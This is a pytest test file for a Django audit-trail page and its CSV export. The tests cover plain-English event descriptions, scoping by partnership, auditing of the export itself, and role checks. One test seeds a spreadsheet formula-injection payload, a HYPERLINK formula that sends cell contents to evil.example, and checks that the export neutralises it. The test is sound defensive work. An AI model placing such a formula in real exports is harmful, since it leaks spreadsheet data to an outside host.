"""The audit trail page reads as plain English, and its search exports as a CSV that is
scoped, audited, streamed and safe to open in a spreadsheet (issue 10 item 6)."""

import csv
import io

from django.urls import reverse

from accounts.roles import Role
from audit.models import AccessEvent, Action
from audit.services import record_event


def _csv(response):
    assert response.streaming
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_audit_page_says_what_happened_in_plain_english(client, login, world):
    investigator = world.members[Role.INVESTIGATOR]
    login(investigator)
    client.get(reverse("cases:detail", args=[world.own_case.pk]))
    login(world.members[Role.PARTNERSHIP_ADMIN])
    response = client.get(reverse("audit:search"), {"action": "view"})
    html = response.content.decode()
    assert f"Viewed case {world.own_case.reference}" in html
    # The person by name and agency, not by email; no raw codes or JSON.
    assert investigator.user.full_name in html and investigator.agency.name in html
    assert investigator.user.email not in html
    assert "cases.Case" not in html and "{&quot;" not in html
    # No scroll box and no mid-word breaking around the table.
    assert "app-table-scroll" not in html and "app-break-words" not in html
    assert "govuk-table" in html


def test_what_covers_downloads_denials_searches_and_disclosures(world):
    case = world.own_case
    membership = world.members[Role.INVESTIGATOR]
    rows = {
        "download": record_event(
            action=Action.DOWNLOAD,
            actor=membership.user,
            membership=membership,
            detail={"minutes": "pdf", "case_ids": [case.pk]},
        ),
        "denial": record_event(
            action=Action.DENIAL,
            actor=membership.user,
            membership=membership,
            requested=("cases.Case", "42"),
        ),
        "search": record_event(
            action=Action.SEARCH,
            actor=membership.user,
            membership=membership,
            obj=None,
            detail={"query": "Smith"},
        ),
        "disclose": record_event(
            action=Action.DISCLOSE,
            actor=membership.user,
            membership=membership,
            obj=case,
            detail={"recipient_agency": "health agency", "recipient_agency_id": 2},
        ),
    }
    assert rows["download"].what == "Downloaded minutes"
    assert rows["denial"].what == "Denied access to case 42"
    assert rows["search"].what == "Searched records for \u201cSmith\u201d"
    assert rows["disclose"].what == f"Disclosed case {case.reference} to health agency"
    long = record_event(action=Action.UPDATE, actor=membership.user, obj=case, detail={})
    assert len(long.what) <= 120


def test_export_is_the_current_search_scoped_streamed_and_audited(client, login, world):
    admin = world.members[Role.PARTNERSHIP_ADMIN]
    investigator = world.members[Role.INVESTIGATOR]
    login(investigator)
    client.get(reverse("cases:detail", args=[world.own_case.pk]))
    login(world.other_partnership_member)
    client.get(reverse("cases:detail", args=[world.other_partnership_case.pk]))
    login(admin)
    response = client.get(reverse("audit:export"), {"action": "view"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = _csv(response)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["When", "Who", "Email", "Agency", "Action", "What"]
    assert body and all(row[4] == "Viewed" for row in body)
    whats = [row[5] for row in body]
    assert f"Viewed case {world.own_case.reference}" in whats
    assert not any(world.other_partnership_case.reference in cell for row in body for cell in row)
    assert any(row[1] == investigator.user.full_name for row in body)
    export = AccessEvent.objects.get(action=Action.EXPORT, actor=admin.user)
    assert export.detail == {"audit_export": {"action": "view"}}
    assert export.partnership_id == world.partnership.pk


def test_export_cells_are_neutralised_against_formula_injection(client, login, world):
    membership = world.members[Role.INVESTIGATOR]
    record_event(
        action=Action.BREAK_GLASS,
        actor=membership.user,
        membership=membership,
        obj=world.own_case,
        reason='=HYPERLINK("https://evil.example/?"&A1)',
    )
    login(world.members[Role.PARTNERSHIP_ADMIN])
    rows = _csv(client.get(reverse("audit:export"), {"action": "break_glass"}))
    reasons = [row[7] for row in rows[1:]]
    assert reasons == ['\'=HYPERLINK("https://evil.example/?"&A1)']


def test_export_with_bad_filters_shows_the_errors_and_exports_nothing(client, login, world):
    login(world.members[Role.PARTNERSHIP_ADMIN])
    response = client.get(reverse("audit:export"), {"date_from": "31/2/2026"})
    assert response.status_code == 400
    assert "date_from" in response.context["form"].errors
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()


def test_export_link_carries_the_search(client, login, world):
    login(world.members[Role.PARTNERSHIP_ADMIN])
    response = client.get(reverse("audit:search"), {"action": "view", "case_reference": "X"})
    assert reverse("audit:export") + "?action=view&amp;case_reference=X" in (
        response.content.decode()
    )


def test_roles_without_review_audit_cannot_export(client, login, world):
    login(world.members[Role.MANAGER])
    assert client.get(reverse("audit:export")).status_code == 403
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()
